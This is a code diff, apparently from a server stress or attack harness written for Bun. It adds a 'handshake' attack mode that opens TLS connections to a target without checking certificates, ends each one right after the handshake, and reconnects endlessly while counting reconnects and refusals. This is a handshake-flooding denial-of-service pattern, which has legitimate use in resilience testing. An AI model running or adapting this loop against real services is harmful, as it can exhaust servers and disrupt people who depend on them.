@@ -55,7 +55,40 @@ function line(message: object): string {
   return `${JSON.stringify(message)}\n`;
 }
 
+/** Shakes hands, hangs up, and comes back at once. */
+async function shakeHands(begun: () => void): Promise<void> {
+  for (;;) {
+    const over = Promise.withResolvers<void>();
+    const end = (): void => over.resolve();
+    try {
+      await Bun.connect({
+        hostname: order.address,
+        port: webPort,
+        tls: { rejectUnauthorized: false },
+        socket: {
+          data() {},
+          handshake(socket) {
+            begun();
+            report.reconnects++;
+            socket.terminate();
+            end();
+          },
+          close: end,
+          error: end,
+          connectError: end,
+        },
+      });
+    } catch {
+      report.refused++;
+      end();
+      await Bun.sleep(comeBackMs);
+    }
+    await over.promise;
+  }
+}
+
 async function attackWith(attack: string, begun: () => void): Promise<void> {
+  if (attack === "handshake") return shakeHands(begun);
   const isWeb = attack === "head" || attack === "list";
   for (;;) {
     const over = Promise.withResolvers<void>();
